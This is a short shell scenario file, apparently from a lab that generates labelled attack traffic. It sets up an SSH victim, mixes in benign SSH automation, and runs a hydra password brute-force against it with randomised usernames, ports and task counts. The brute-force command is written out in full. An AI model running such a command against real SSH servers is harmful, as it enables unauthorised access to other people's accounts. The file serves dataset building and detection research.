# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-hydra
# needs: hydra sshd
# seconds: 60
# Passwords for ssh by hydra, with as many tasks as the seed says.
. $lab/victims.sh

servers() {
	_port=$(choose 22 22 2222)
	victim_ssh d "$_port"
	words_up 60
}

scenario() {
	_tasks=$(choose 1 2 4 8)
	_user=$(choose root admin lab)
	mix benign/ssh-automation
	cd "$work" || return
	setting options "-t $_tasks -l $_user port $_port"
	attack s d tcp "$_port" -- timeout 50 hydra -I -t "$_tasks" -l "$_user" -P "$work/words" \
		-s "$_port" "$(addr d)" ssh
}
